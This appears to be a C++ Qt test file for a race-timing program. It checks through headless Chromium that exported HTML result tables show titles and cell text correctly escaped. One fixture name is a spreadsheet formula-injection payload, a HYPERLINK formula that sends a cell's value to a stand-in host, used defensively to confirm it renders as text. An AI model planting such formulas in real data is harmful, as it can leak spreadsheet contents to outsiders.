// SPDX-FileCopyrightText: 2024-2026 Rennzeit developers
// SPDX-License-Identifier: GPL-3.0-or-later

#include "gridstore/CellStore.h"
#include "protocol/HtmlPage.h"
#include "support/HeadlessChromium.h"

#include <QRegularExpression>
#include <QStandardPaths>
#include <QTemporaryDir>
#include <QUrl>
#include <QtTest>

namespace {

TCellStore raceTable()
{
    TCellStore cells(7, 6);
    cells.SetRow(0, { "Nr.", "Name", "Start", "Zeit", "Split", "Platz", "*" });
    cells.SetRow(1, { "3", "Berg", "10:05.03,12", "1.05,12", "0,00", "1", "65120" });
    cells.SetRow(2, { "7", QStringLiteral("Müller, Anna, €"), "10:05.20,40", "", "0.17,28", "-", "1234567" });
    cells.SetRow(3, { "9", "A<B & C", "10:05.30,00", "1.10,00", "0.26,88", "2", "70000" });
    // The names the CSV export guards against: the page shows them as text.
    cells.SetRow(4, { "11", "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")", "", "", "", "-", "" });
    cells.SetRow(5, { "", "", "", "", "", "-", "" });
    return cells;
}

// Text of a serialized DOM node: the serializer escapes only these.
QString textOf(QString html)
{
    html.replace(QLatin1String("&lt;"), QLatin1String("<"));
    html.replace(QLatin1String("&gt;"), QLatin1String(">"));
    html.replace(QLatin1String("&nbsp;"), QString(QChar(0xA0)));
    html.replace(QLatin1String("&amp;"), QLatin1String("&"));
    return html.trimmed();
}

QStringList cellsOf(const QString& html, const QString& tag)
{
    QStringList texts;
    const QRegularExpression re(
        QStringLiteral("<%1(?: [^>]*)?>(.*?)</%1>").arg(tag), QRegularExpression::DotMatchesEverythingOption);
    for (const QRegularExpressionMatch& m : re.globalMatch(html))
        texts << textOf(m.captured(1));
    return texts;
}

} // namespace

class TestBrowser : public QObject {
    Q_OBJECT
private:
    QString m_browser;

    QString dumpDom(const QString& page) { return HeadlessChromiumDom(QUrl::fromLocalFile(page).toString()); }

private slots:
    void initTestCase()
    {
        m_browser = QStandardPaths::findExecutable(QStringLiteral("chromium"));
        if (m_browser.isEmpty())
            QSKIP("no chromium installed (scripts/install-deps.sh --tests installs it)");
    }

    void chromium_showsThePageAsTyped()
    {
        QTemporaryDir dir;
        const QString page = dir.filePath("rennzeit.html");
        QVERIFY(protocol::WriteHtmlPage(raceTable(), page, QStringLiteral("rennzeit")));
        const QString dom = dumpDom(page);
        QVERIFY(!dom.isEmpty());

        QCOMPARE(cellsOf(dom, "title"), QStringList({ "Zeitenprotokoll rennzeit" }));
        QVERIFY(cellsOf(dom, "h1").isEmpty());
        QCOMPARE(cellsOf(dom, "h5"), QStringList({ "Ergebnisse" }));
        QCOMPARE(cellsOf(dom, "th"), QStringList({ "Nr.", "Name", "Start", "Zeit", "Split", "Platz" }));

        const QString body = dom.section(QLatin1String("<tbody>"), 1).section(QLatin1String("</tbody>"), 0, 0);
        QList<QStringList> table;
        const QRegularExpression tr(QStringLiteral("<tr>(.*?)</tr>"), QRegularExpression::DotMatchesEverythingOption);
        for (const QRegularExpressionMatch& m : tr.globalMatch(body))
            table << cellsOf(m.captured(1), "td");
        QCOMPARE(table,
            QList<QStringList>({ { "3", "Berg", "10:05.03.12", "1.05.12", "0.00", "1" },
                { "7", QStringLiteral("Müller, Anna, €"), "10:05.20.40", "", "0.17.28", "-" },
                { "9", "A<B & C", "10:05.30.00", "1.10.00", "0.26.88", "2" },
                { "11", "=HYPERLINK(\"http://example.invalid/?x=\"&A1;\"klick\")", "", "", "", "-" },
                { "", "", "", "", "", "-" } }));
        QVERIFY(!dom.contains(QLatin1String("65120")));
    }

    void chromium_showsTheRaceTitleOnTop()
    {
        QTemporaryDir dir;
        const QString page = dir.filePath("rennzeit.html");
        const protocol::RaceHeading heading { QStringLiteral("Vereinsmeisterschaft Slalom 2027 – Jörg's <Lauf> & Co"),
            QDate(2027, 6, 14) };
        QVERIFY(protocol::WriteHtmlPage(raceTable(), page, QStringLiteral("rennzeit"), nullptr, {}, heading));
        const QString dom = dumpDom(page);
        QVERIFY(!dom.isEmpty());
        QCOMPARE(cellsOf(dom, "title"), QStringList({ "Zeitenprotokoll " + heading.title }));
        QCOMPARE(cellsOf(dom, "h1"), QStringList({ heading.title }));
        QCOMPARE(cellsOf(dom, "h5"), QStringList({ "Ergebnisse vom 14.06.2027" }));
        QCOMPARE(cellsOf(dom, "th"), QStringList({ "Nr.", "Name", "Start", "Zeit", "Split", "Platz" }));
    }
};

QTEST_GUILESS_MAIN(TestBrowser)
#include "tst_browser.moc"
